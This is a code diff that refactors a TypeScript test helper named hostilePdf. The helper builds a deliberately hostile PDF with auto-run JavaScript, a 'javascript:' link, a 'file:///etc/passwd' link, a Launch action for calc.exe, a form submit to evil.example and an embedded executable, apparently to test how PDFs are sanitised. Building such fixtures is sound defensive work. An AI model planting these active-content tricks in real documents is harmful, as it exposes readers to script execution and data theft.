@@ -61,7 +61,10 @@ export async function hostilePdf(): Promise<Uint8Array> {
   const script = { S: "JavaScript", JS: PDFString.of("app.alert('open')") };
   catalog.set(PDFName.of("OpenAction"), context.obj(script));
   catalog.set(PDFName.of("AA"), context.obj({ WC: script }));
-  catalog.set(PDFName.of("URI"), context.obj({ Base: text("http://base/") }));
+  catalog.set(
+    PDFName.of("URI"),
+    context.obj({ Base: pdfString("http://base/") }),
+  );
   const form = catalog.getAcroForm()?.dict;
   form?.set(PDFName.of("XFA"), context.register(context.stream("<xdp:xdp/>")));
 
@@ -74,25 +77,35 @@ export async function hostilePdf(): Promise<Uint8Array> {
   const add = (entries: Record<string, unknown>) =>
     page.addAnnot(context.register(annotation(document, entries)));
   const next = { S: "Named", N: "NextPage" };
-  add({ A: { S: "URI", URI: text("https://college.example/"), Next: next } });
-  add({ A: { S: "URI", URI: text("mailto:office@college.example") } });
-  add({ A: { S: "URI", URI: text("javascript:alert(1)") } });
-  add({ A: { S: "URI", URI: text("file:///etc/passwd") } });
-  add({ A: { S: "Launch", F: text("calc.exe") } });
-  add({ A: { S: "GoToR", F: text("other.pdf") } });
-  add({ A: { S: "SubmitForm", F: text("http://evil.example/") } });
+  add({
+    A: { S: "URI", URI: pdfString("https://college.example/"), Next: next },
+  });
+  add({ A: { S: "URI", URI: pdfString("mailto:office@college.example") } });
+  add({ A: { S: "URI", URI: pdfString("javascript:alert(1)") } });
+  add({ A: { S: "URI", URI: pdfString("file:///etc/passwd") } });
+  add({ A: { S: "Launch", F: pdfString("calc.exe") } });
+  add({ A: { S: "GoToR", F: pdfString("other.pdf") } });
+  add({ A: { S: "SubmitForm", F: pdfString("http://evil.example/") } });
   add({ A: { S: "Named", N: "Print" } });
-  add({ A: script, PA: { S: "URI", URI: text("http://previous.example/") } });
+  add({
+    A: script,
+    PA: { S: "URI", URI: pdfString("http://previous.example/") },
+  });
   const content = context.obj({ Assets: { Names: [] } });
   add({ Subtype: "RichMedia", RichMediaContent: content });
-  const file = { Type: "Filespec", F: text("a.exe"), EF: { F: about } };
+  const file = { Type: "Filespec", F: pdfString("a.exe"), EF: { F: about } };
   add({ Subtype: "FileAttachment", FS: file });
-  add({ Subtype: "Screen", A: { S: "Rendition", JS: text("app.alert(2)") } });
+  add({
+    Subtype: "Screen",
+    A: { S: "Rendition", JS: pdfString("app.alert(2)") },
+  });
   // Otherwise the library would draw the form anew and take the XFA out.
   return document.save({ updateFieldAppearances: false });
 }
 
-const text = (value: string) => PDFString.of(value);
+function pdfString(value: string) {
+  return PDFString.of(value);
+}
 
 function annotation(
   { context }: PDFDocument,
@@ -189,19 +202,21 @@ export const onePage = [
 ] as const;
 
 /** Catalog, page tree and one page with this text for `rawPdf`. */
-export const rawPage = (text: string): string[] => [
-  onePage[0],
-  onePage[1],
-  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
-  textStream(text),
-  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-];
+export function rawPage(text: string): string[] {
+  return [
+    onePage[0],
+    onePage[1],
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
+    textStream(text),
+    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+  ];
+}
 
 /** The content of a page for `rawPdf`. */
-export const textStream = (text: string): string => {
+export function textStream(text: string): string {
   const content = `BT /F 14 Tf 72 700 Td (${text}) Tj ET`;
   return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
-};
+}
 
 /** Two pages, the first with a link to the second and one that leads out; both tagged as parts of the document. */
 export async function linkedPdf(): Promise<Uint8Array> {
@@ -210,7 +225,7 @@ export async function linkedPdf(): Promise<Uint8Array> {
   const links = [
     { Dest: [second?.ref, "Fit"] },
     { A: { S: "GoTo", D: [second?.ref, "Fit"] } },
-    { A: { S: "URI", URI: text("https://college.example/") } },
+    { A: { S: "URI", URI: pdfString("https://college.example/") } },
   ];
   for (const link of links) {
     const entries = { ...link, P: first?.ref, StructParent: 0 };
